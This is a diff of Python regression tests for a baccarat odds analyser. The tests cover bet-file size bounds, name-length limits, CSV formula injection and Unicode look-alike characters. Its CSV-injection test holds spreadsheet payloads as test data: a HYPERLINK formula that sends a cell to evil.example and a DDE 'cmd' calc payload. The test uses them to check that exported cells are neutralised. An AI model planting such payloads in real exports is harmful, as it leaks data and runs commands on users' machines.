@@ -4,11 +4,15 @@ each a regression test, fast (in-process where the contract allows it)."""
 from __future__ import annotations
 
 import contextlib
+import csv
+import io
+import json
 import os
 import re
 import socket
 import threading
 import time
+import tomllib
 from pathlib import Path
 
 import pytest
@@ -22,7 +26,9 @@ from exact.core import parsing
 from exact.errors import BetFileError, ExactError, InputError, RuleError
 from exact.games import get_game
 from exact.games.punto_banco import Rules as PuntoBancoRules
+from exact.model import bets as bets_module
 from exact.model.bets import game_bets, load_bets
+from exact.render.output import to_csv
 
 
 def _bet(condition: str) -> str:
@@ -337,3 +343,150 @@ def test_a_chemin_de_fer_rule_error_names_the_file_and_the_rule(tmp_path: Path, 
     rules.write_text(shipped.replace(old, new))
     with pytest.raises(RuleError, match=f"^{re.escape(str(rules))}: {re.escape(problem)}"):
         Rules.load(rules)
+
+
+# --- bounded work whatever a bet file holds (third review) --------------------------------------
+def _bets(count: int, events: int = 1, paytables: int = 0) -> str:
+    """``count`` bets of ``events`` events and ``paytables`` alternative paytables each."""
+    event = "[[bet.event]]\nname = \"e{j}\"\nwhen = \"player_total == {k}\"\npays = 1\n"
+    return "".join(
+        f'[[bet]]\nid = "b{i}"\n'
+        + "".join(event.format(j=j, k=j % 10) for j in range(events))
+        + "".join(f'[bet.paytables."p{k}"]\ne0 = 2\n' for k in range(paytables))
+        for i in range(count))
+
+
+@pytest.mark.parametrize(("bound", "most", "file", "message"), [
+    ("MOST_BETS", 6, lambda n: _bets(n), "[[bet]] tables: at most 6 a file"),
+    ("MOST_EVENTS", 6, lambda n: _bets(1, events=n), "bet 'b0': 7 [[bet.event]] tables: at most 6"),
+    ("MOST_PAYTABLES", 6, lambda n: _bets(1, paytables=n),
+     "bet 'b0': 7 alternative paytables: at most 6 a bet"),
+    ("MOST_FILE_EVENTS", 6, lambda n: _bets(n, events=1) if n < 7 else _bets(1, events=3)
+     + _bets(2, events=2).replace('"b', '"c'), "bet 'c1': passes 6 [[bet.event]] tables in"),
+    ("MOST_FILE_PAYTABLES", 6, lambda n: _bets(n, paytables=1) if n < 7 else
+     _bets(1, paytables=3) + _bets(2, paytables=2).replace('"b', '"c'),
+     "bet 'c1': passes 6 alternative paytables in the file"),
+])
+def test_a_bet_file_past_a_bound_is_refused_and_one_at_it_is_read(monkeypatch, bound, most, file,
+                                                                  message) -> None:
+    """10,000 events took 42 s to analyse, 10,000 paytables 32 s, 5,000 bets 33 s, with no
+    bound: a 4 MiB file, many minutes. Each bound is lowered here to keep the test fast; the
+    real ones are checked below against the shipped files."""
+    monkeypatch.setattr(bets_module, bound, most)
+    features = list(get_game("punto-banco").features)
+    assert load_bets("mine.toml", features, text=file(most))
+    with pytest.raises(BetFileError) as error:
+        load_bets("mine.toml", features, text=file(most + 1))
+    assert str(error.value).startswith("mine.toml: ") and message in str(error.value)
+    assert "\n" not in str(error.value)
+
+
+def test_the_bet_file_bounds_are_far_above_the_shipped_files_and_in_the_readme() -> None:
+    """Every shipped or test bet file is well within the bounds (a bound is a limit for
+    hostile files, not for real ones), and the README states each one."""
+    readme = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
+    files = [*DATA.glob("*/*bets.toml"), *(Path(__file__).parents[1] / "data").glob("*.toml")]
+    bets = [b for f in files for b in tomllib.loads(f.read_text(encoding="utf-8"))["bet"]]
+    per_file = max(len(tomllib.loads(f.read_text(encoding="utf-8"))["bet"]) for f in files)
+    assert per_file * 10 <= bets_module.MOST_BETS
+    assert max(len(b["event"]) for b in bets) * 10 <= bets_module.MOST_EVENTS
+    assert max(len(b.get("paytables", {})) for b in bets) * 10 <= bets_module.MOST_PAYTABLES
+    for most, what in ((bets_module.MOST_BETS, "bets"), (bets_module.MOST_EVENTS, "events"),
+                       (bets_module.MOST_PAYTABLES, "alternative paytables a\nbet"),
+                       (bets_module.MOST_FILE_EVENTS, "events"),
+                       (bets_module.MOST_FILE_PAYTABLES, "alternative paytables in all")):
+        assert f"**{most:,} {what}" in readme, (most, what)
+
+
+def test_a_name_of_megabytes_is_refused_in_a_bet_or_rule_file(tmp_path: Path, capsys) -> None:
+    features = list(get_game("punto-banco").features)
+    name = "n" * (parsing.NAME_LONGEST + 1)
+    with pytest.raises(BetFileError, match=r"bet 'x': name 'nnn.*at most 200 characters"):
+        load_bets("m.toml", features, text=f'[[bet]]\nid = "x"\nname = "{name}"\n'
+                  '[[bet.event]]\nname = "W"\nwhen = "winner == \'tie\'"\npays = 8\n')
+    at_most = load_bets("m.toml", features, text=f'[[bet]]\nid = "x"\nname = "{name[1:]}"\n'
+                        '[[bet.event]]\nname = "W"\nwhen = "winner == \'tie\'"\npays = 8\n')
+    assert at_most[0].name == name[1:]
+    rules = (DATA / "century21" / "rules.toml").read_text(encoding="utf-8")
+    rules = re.sub(r"^name = .*$", f'name = "{"x" * 100_000}"', rules, flags=re.M)
+    (tmp_path / "r.toml").write_text(rules, encoding="utf-8")
+    assert main(["analyze", "century21", "--rules", str(tmp_path / "r.toml")]) == 2
+    error = capsys.readouterr().err
+    assert "rule name" in error and "at most 200 characters" in error and len(error) < 300
+
+
+@pytest.mark.parametrize(("values", "message"), [
+    ("1, " * 2_000 + "1", "2,001 values, at most 10"),
+    ("1, 1", "each total at most once"),
+])
+def test_century21_joker_values_repeated_are_refused(tmp_path: Path, capsys, values,
+                                                     message) -> None:
+    """200,000 repeats of one total were read (9 s) and kept (2,000 here, to be fast)."""
+    rules = (DATA / "century21" / "rules.toml").read_text(encoding="utf-8")
+    rules = re.sub(r"^joker_values = .*$", f"joker_values = [{values}]", rules, flags=re.M)
+    (tmp_path / "r.toml").write_text(rules, encoding="utf-8")
+    assert main(["analyze", "century21", "--rules", str(tmp_path / "r.toml")]) == 2
+    error = capsys.readouterr().err
+    assert "joker_values" in error and message in error and len(error) < 300
+
+
+# --- CSV injection ------------------------------------------------------------------------------
+HOSTILE_NAMES = {"b": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "p": "+cmd|' /C calc'!A0",
+                 "e": "-2+3", "f": "@SUM(1+1)"}
+
+
+def _named_bet(names: dict[str, str]) -> str:
+    quoted = {key: json.dumps(name) for key, name in names.items()}  # a TOML basic string
+    return (f'[[bet]]\nid = {quoted["b"]}\nname = "Hostile"\npaytable = {quoted["p"]}\n'
+            f'[[bet.event]]\nname = {quoted["e"]}\nwhen = "winner == \'tie\'"\npays = 8\n'
+            f'[[bet.event]]\nname = {quoted["f"]}\nwhen = "winner == \'banker\'"\n'
+            'pays = "lose"\n')
+
+
+def test_csv_text_cells_cannot_run_as_formulas_and_numbers_are_unchanged() -> None:
+    """Bet ids, paytable and event names came from user files into CSV cells as written:
+    Excel runs ``=HYPERLINK(...)`` (or ``+``, ``-``, ``@``...) as a formula. The same bets
+    named plainly give the same numeric cells, and plain names stay as written."""
+    game, shoe = get_game("punto-banco"), Shoe.standard(1)
+    plain = {"b": "tie-bet", "p": "standard", "e": "Tie", "f": "Banker"}
+    rows = {}
+    for label, names in (("hostile", HOSTILE_NAMES), ("plain", plain)):
+        bets = load_bets("m.toml", game.features, text=_named_bet(names))
+        rows[label] = list(csv.reader(io.StringIO(to_csv(analyze(game, shoe, bets)))))
+    header = rows["plain"][0]
+    text = {header.index(c) for c in ("game", "counting_unit", "bet", "paytable", "event")}
+    assert len(rows["hostile"]) == len(rows["plain"]) == 4  # header, two events, otherwise
+    for hostile, plain_row in zip(rows["hostile"][1:], rows["plain"][1:], strict=True):
+        for column, (cell, plain_cell) in enumerate(zip(hostile, plain_row, strict=True)):
+            if column not in text:  # negative numbers (-1, -0.0123) are not text to quote
+                assert cell == plain_cell and not cell.startswith("'"), header[column]
+            elif plain_cell in plain.values():
+                original = HOSTILE_NAMES[next(k for k, v in plain.items() if v == plain_cell)]
+                assert cell == "'" + original, (cell, original)
+            else:
+                assert cell == plain_cell and not cell.startswith("'")
+    assert any(row[header.index("return_float")].startswith("-") for row in rows["hostile"])
+
+
+# --- look-alike names in conditions -------------------------------------------------------------
+@pytest.mark.parametrize(("condition", "character"), [
+    ("ｐlayer_total == 5", "'ｐ' (U+FF50)"),      # NFKC: Python would read player_total
+    ("player_total == ５", "'５' (U+FF15)"),
+    ("player_total ≤ 5", "'≤' (U+2264)"),
+    ("player_total == 5  # ｐ", "'ｐ' (U+FF50)"),
+])
+def test_a_condition_with_a_look_alike_character_is_refused(condition, character) -> None:
+    """Python's parser reads names NFKC-normalised: a full-width ``ｐlayer_total`` was
+    evaluated as ``player_total`` while the condition shown read otherwise."""
+    features = get_game("punto-banco").features
+    with pytest.raises(BetFileError) as error:
+        load_bets("m.toml", features, text=_bet(condition))
+    message = str(error.value)
+    assert message.startswith("m.toml: bet 'x', event 'Win': non-ASCII character " + character)
+    assert "\n" not in message
+
+
+def test_text_inside_a_string_literal_may_be_any_character() -> None:
+    bet = load_bets("m.toml", list(get_game("punto-banco").features),
+                    text=_bet("winner == 'ｐlayer'"))[0]
+    assert bet.features == frozenset({"winner"})
